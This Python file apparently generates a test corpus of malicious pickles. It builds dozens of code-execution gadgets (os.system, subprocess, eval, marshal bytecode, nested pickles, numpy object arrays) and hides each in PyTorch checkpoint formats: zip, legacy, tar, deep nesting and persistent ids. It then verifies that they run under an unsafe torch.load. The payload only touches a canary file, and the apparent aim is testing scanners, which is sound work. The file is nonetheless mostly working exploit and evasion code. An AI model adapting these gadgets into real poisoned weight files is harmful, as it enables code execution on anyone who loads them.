"""Pickles that run code: gadgets that make a canary file, and the files of weights they hide in."""

from __future__ import annotations

import contextlib
import io
import marshal
import os
import pickle
import sys
import tarfile
import time
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

PROTOCOL = b"\x80\x02"
STOP = b"."
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_VERSION = 1001


@dataclass(frozen=True)
class Call:
    """A value that unpickling makes by calling `function`: a (module, name) pair, or what another call gives."""

    function: tuple[str, str] | Call
    arguments: tuple = ()


def opcodes(value: object) -> bytes:
    """Return the pickle of a value without PROTO and STOP; calls become GLOBAL and REDUCE."""
    if isinstance(value, bytes):
        return b"B" + len(value).to_bytes(4, "little") + value
    if isinstance(value, Call):
        is_global = isinstance(value.function, tuple)
        function = "c{}\n{}\n".format(*value.function).encode() if is_global else opcodes(value.function)
        return function + b"(" + b"".join(map(opcodes, value.arguments)) + b"tR"
    return pickle.dumps(value, 2)[2:-1]


def pickled(value: object) -> bytes:
    return PROTOCOL + opcodes(value) + STOP


def gadgets(canary: Path, script: Path) -> dict[str, bytes]:
    """Opcodes by family, each of which makes the canary when it is unpickled without care.

    Args:
        canary: the file that they make.
        script: a Python file that makes it, too.
    """
    path, touch = str(canary), f"touch '{canary}'"
    expression = f"__import__('pathlib').Path({path!r}).touch()"
    system = Call(("os", "system"), (touch,))
    os_system = Call(("builtins", "getattr"), (Call(("importlib", "import_module"), ("os",)), "system"))
    byte_code = Call(("marshal", "loads"), (marshal.dumps(compile(expression, "gadget", "eval")),))
    calls = {
        "os.system": system,
        "posix.system": Call(("posix", "system"), (touch,)),
        "os.popen": Call(("os", "popen"), (touch,)),
        "os.mkdir": Call(("os", "mkdir"), (path,)),
        "os.open": Call(("os", "open"), (path, 0o101)),
        "os.symlink": Call(("os", "symlink"), ("/", path)),
        "os.spawnlp": Call(("os", "spawnlp"), (0, "touch", "touch", path)),
        "subprocess.call": Call(("subprocess", "call"), (["touch", path],)),
        "subprocess.Popen": Call(("subprocess", "Popen"), (["touch", path],)),
        "subprocess.getoutput": Call(("subprocess", "getoutput"), (touch,)),
        "builtins.eval": Call(("builtins", "eval"), (expression,)),
        "builtins.exec": Call(("builtins", "exec"), (expression,)),
        "builtins.open": Call(("builtins", "open"), (path, "w")),
        "a name of Python 2": Call(("__builtin__", "eval"), (expression,)),
        "io.FileIO": Call(("io", "FileIO"), (path, "w")),
        "shutil.copyfile": Call(("shutil", "copyfile"), (str(script), path)),
        "runpy.run_path": Call(("runpy", "run_path"), (str(script),)),
        "timeit.timeit": Call(("timeit", "timeit"), ("pass", expression)),
        "cProfile.run": Call(("cProfile", "run"), (expression,)),
        "getattr of a module": Call(os_system, (touch,)),
        "functools.partial": Call(Call(("functools", "partial"), (os_system, touch))),
        "operator.methodcaller": Call(
            Call(("operator", "methodcaller"), ("touch",)), (Call(("pathlib", "Path"), (path,)),)
        ),
        "a function from its byte code": Call(Call(("types", "FunctionType"), (byte_code, {}))),
        "logging.FileHandler": Call(("logging", "FileHandler"), (path,)),
        "sqlite3.connect": Call(("sqlite3", "connect"), (path,)),
        "tarfile.open": Call(("tarfile", "open"), (path, "w")),
        "a pickle in a pickle": Call(("pickle", "loads"), (pickled(system),)),
        "a checkpoint in a checkpoint": Call(("torch.storage", "_load_from_bytes"), (legacy_file(opcodes(system)),)),
        "torch.utils.collect_env.run": Call(("torch.utils.collect_env", "run"), (touch,)),
        "numpy.load": Call(("numpy", "load"), (Call(("io", "BytesIO"), (object_array(pickled(system)),)), None, True)),
    }
    text = f'"{touch}"'.encode()
    return {name: opcodes(call) for name, call in calls.items()} | {
        "opcode INST": b"(S" + text + b"\nios\nsystem\n",
        "opcode OBJ": b"(cos\nsystem\nS" + text + b"\no",
        "opcode STACK_GLOBAL": opcodes("os") + opcodes("system") + b"\x93(S" + text + b"\ntR",
        "opcode NEWOBJ": b"cio\nFileIO\n)\x81" + opcodes(system),
        "opcode POP": opcodes(system) + b"0" + opcodes({}),
    }


# The files that hide them


def zip_file(value: bytes, compression: int = zipfile.ZIP_STORED, members: dict[str, bytes] | None = None) -> bytes:
    """Return what `torch.save` writes since 2020, with `value` as its pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("archive/data.pkl", PROTOCOL + value + STOP)
        archive.writestr("archive/byteorder", b"little")
        for name, content in (members or {}).items():
            archive.writestr(f"archive/{name}", content)
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def legacy_file(value: bytes, stage: int = 3) -> bytes:
    """Return what `torch.save` wrote before: five pickles in a row; `value` is the one of this stage."""
    pickles = [
        opcodes(LEGACY_MAGIC),
        opcodes(LEGACY_VERSION),
        opcodes({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}),
        opcodes({}),
        opcodes([]),
    ]
    pickles[stage] = value
    return b"".join(PROTOCOL + one + STOP for one in pickles)


def tar_file(value: bytes, place: str) -> bytes:
    """Return what `torch.save` wrote in 2016, with `value` in one of its members."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            pickles = {"storages": [opcodes(0), opcodes([])], "tensors": [opcodes(0)], "pickle": [opcodes({})]}[name]
            pickles[0] = value if name == place else pickles[0]
            content = b"".join(PROTOCOL + one + STOP for one in pickles)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def object_array(content: bytes) -> bytes:
    """Return a .npy file whose array is a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + content


def disguises(gadget: bytes) -> dict[str, bytes]:
    """Files that hold one gadget, each in another place."""
    as_value = b"}" + opcodes("features.0.0.weight") + gadget + b"s"
    deep = b"}" + opcodes("state_dict") + b"}" + opcodes("x") + b"(" * 50 + gadget + b"t" * 50 + b"s" + b"s"
    whole = PROTOCOL + gadget + STOP
    return {
        "raw": whole,
        "raw, protocol 0": gadget + STOP,
        "raw, protocol 5": b"\x80\x05" + gadget + STOP,
        "zip": zip_file(gadget),
        "zip, deflated": zip_file(gadget, zipfile.ZIP_DEFLATED),
        "zip, a value": zip_file(as_value),
        "zip, deep": zip_file(deep),
        "zip, a key": zip_file(b"}" + gadget + opcodes(1) + b"s"),
        "zip, a persistent id": zip_file(gadget + b"Q"),
        "zip, part of a persistent id": zip_file(b"(" + opcodes("storage") + gadget + b"tQ"),
        "zip, state of a dict": zip_file(opcodes(Call(("collections", "OrderedDict"))) + gadget + b"b"),
        "legacy": legacy_file(gadget),
        "legacy, a value": legacy_file(as_value),
        "legacy, deep": legacy_file(deep),
        "legacy, magic number": legacy_file(gadget, stage=0),
        "legacy, version": legacy_file(gadget, stage=1),
        "legacy, system": legacy_file(gadget, stage=2),
        "legacy, storage keys": legacy_file(gadget, stage=4),
        "tar, storages": tar_file(gadget, "storages"),
        "tar, tensors": tar_file(gadget, "tensors"),
        "tar, pickle": tar_file(gadget, "pickle"),
    }


def is_live(load: Callable[[], object], canary: Path) -> bool:
    """Whether a careless load, in a process of its own, makes the canary, which is then removed."""
    process = os.fork()
    if not process:
        with contextlib.suppress(BaseException):
            os.close(1)
            load()
        os._exit(0)
    os.waitpid(process, 0)
    deadline_s = time.monotonic() + 5
    while not os.path.lexists(canary) and time.monotonic() < deadline_s:
        time.sleep(0.01)
    if not os.path.lexists(canary):
        return False
    (Path.rmdir if canary.is_dir() and not canary.is_symlink() else Path.unlink)(canary)
    return True


def main(folder: Path) -> None:
    """Check that every gadget and every disguise makes the canary under a loader that takes no care."""
    import torch

    warnings.simplefilter("ignore")
    canary, script, path = folder / "canary", folder / "script.py", folder / "weights.pth"
    script.write_text(f"open({str(canary)!r}, 'w')")
    families = gadgets(canary, script)
    dead = [
        family
        for family, gadget in families.items()
        if not is_live(lambda gadget=gadget: pickle.loads(PROTOCOL + gadget + STOP), canary)
    ]
    for disguise, content in disguises(families["os.system"]).items():
        path.write_bytes(content)
        if not is_live(lambda: torch.load(path, weights_only=False), canary):
            dead.append(disguise)
    sys.exit(f"these would not run in any case: {dead}" if dead else 0)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
